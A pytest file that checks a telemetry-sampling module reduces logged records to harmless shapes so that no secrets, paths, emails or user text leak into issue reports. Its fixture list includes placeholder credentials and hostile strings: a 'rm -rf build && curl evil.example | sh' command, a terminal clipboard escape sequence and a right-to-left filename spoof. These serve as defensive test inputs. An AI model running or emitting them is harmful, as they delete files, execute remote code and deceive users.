"""What leaves for an issue: shapes of what came in, and nothing that anybody wrote."""

import json

import pytest

from receiver import samples
from tests.fakes.otlp import log

SECRETS = [
    "sk-ant-api03-abcdefghijklmnopqrstuvwx",
    "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
    "AKIAIOSFODNN7EXAMPLE",
    "xoxb-1234567890-abcdefghijk",
    "abaa2f48-4cec-45ef-9cda-68d1543b3cb6",
    "deadbeef01",
    "/home/dev/projects/shop-api/src/cart.py",
    "C:\\Users\\dev\\shop",
    "dev@example.com",
    "postgres://dev:hunter2@db/shop",
    "rm -rf build && curl evil.example | sh",
    "fix the login of Mrs. Miller",
    "4111111111111111",
    "\x1b]52;c;cm0=\x07",
    "\u202egnp.exe",
]


def holds(document: object, secret: str) -> bool:
    """Whether any piece of a secret that is worth something is in a document."""
    written = json.dumps(document, ensure_ascii=False)
    return any(secret[at : at + 6] in written for at in range(max(1, len(secret) - 5)))


@pytest.mark.parametrize("secret", SECRETS)
def test_a_secret_leaves_neither_as_a_name_nor_as_a_key_nor_as_a_value(secret):
    """Not where a name is expected, and not below."""
    record = log("x", {secret: "v", "prompt": secret, "event.name": secret, "type": secret, "app.version": secret})
    payload = {"a": secret, secret: 1, "more": {"command": secret, secret: {secret: secret}}, "list": [secret]}
    told = [samples.of_record(record), samples.of_object(payload), samples.word(secret), samples.word(f"a.{secret}")]
    assert not holds(told, secret)
    assert not holds(samples.version(f"2.2.0-{secret}"), secret)


def test_a_sample_is_read_in_a_second():
    record = log(
        "claude_code.api_request_v2",
        {
            "event.name": "api_request_v2",
            "app.version": "2.2.0",
            "session.id": "abaa2f48-4cec-45ef-9cda-68d1543b3cb6",
            "model": "claude-opus-5-5",
            "input_tokens": 501,
            "output_tokens": "71",
            "cost_usd": 0.016424,
            "account": 5_012_345_678,
            "ok": True,
            "effort": None,
        },
    )
    assert samples.of_record(record) == {
        "event.name": "api_request_v2",
        "app.version": "2.2.0",
        "session.id": "text(36)",
        "model": "text(15)",
        "input_tokens": 501,
        "output_tokens": "digits(2)",
        "cost_usd": 0.016424,
        "account": "number",
        "ok": True,
        "effort": None,
    }


def test_what_a_person_or_a_model_chose_is_not_looked_into():
    """Plain words and small numbers are harmless only where a client gives them."""
    told = {
        "type": "assistant",
        "tool_input": {"Miller": {"pin": 1234}, "type": "Miller"},
        "effort": {"level": "Miller", "type": "Miller"},
        "user_id": 501,
    }
    assert samples.of_object(told) == {
        "type": "assistant",
        "tool_input": "object(2)",
        "effort": {"level": "text(6)", "type": "text(6)"},
        "user_id": "number",
    }


def test_a_sample_is_small_however_large_what_it_shows():
    wide = {f"key_{number % 1000}_{'ab'[number // 1000]}": "x" * 10_000 for number in range(2_000)}
    deep: dict[str, object] = {}
    for _ in range(500):
        deep = {"deeper": deep, "more": wide}
    names = [f"{'long' * 5}_{'name' * 5}_{number}" for number in range(100)]
    broad = {name: {other: {} for other in names} for name in names}
    assert samples.of_object(wide)["…"] == "1936 more"
    for one in (wide, deep, broad):
        assert len(json.dumps(samples.of_object(one))) < 10_000


@pytest.mark.parametrize(
    "name", ["claude_code.api_request_v2", "PostToolUseFailure", "agent-turn-complete", "gen_ai.usage.input_tokens"]
)
def test_names_that_clients_give_are_shown(name):
    assert samples.word(name) == name


@pytest.mark.parametrize(
    ("told", "shown"),
    [
        ("2.1.329", "2.1.329"),
        ("v20.20.2", "v20.20.2"),
        ("0.56.0-nightly.20260821.gabc1234", "0.56.0-nightly"),
        ("2.1.329 (Claude Code)", "2.1.329"),
        ("latest", None),
        ("", None),
        (None, None),
    ],
)
def test_a_version_is_shown_without_its_build(told, shown):
    assert samples.version(told) == shown
